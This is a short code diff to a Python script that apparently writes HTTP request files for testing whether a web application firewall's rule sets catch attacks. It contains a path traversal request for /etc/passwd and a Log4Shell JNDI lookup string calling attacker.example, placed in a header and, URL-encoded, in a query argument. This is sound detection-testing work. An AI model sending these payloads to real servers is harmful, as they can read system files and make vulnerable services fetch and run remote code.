@@ -122,7 +122,9 @@ def main():
         "GET", "/download?file=../../../../etc/passwd", BROWSER)
     log4 = [(k, v) for k, v in BROWSER if k != "User-Agent"] + [
         ("User-Agent", "${jndi:ldap://attacker.example/a}")]
-    files["attack-log4shell.http"] = request("GET", "/", log4)
+    # In an argument (which CRS 3.3.4 catches) and in a header (which only CRS v4 does).
+    files["attack-log4shell.http"] = request(
+        "GET", "/lookup?user=%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fa%7D", log4)
     for name, data in files.items():
         with open(os.path.join(OUT, name), "wb") as f:
             f.write(data)
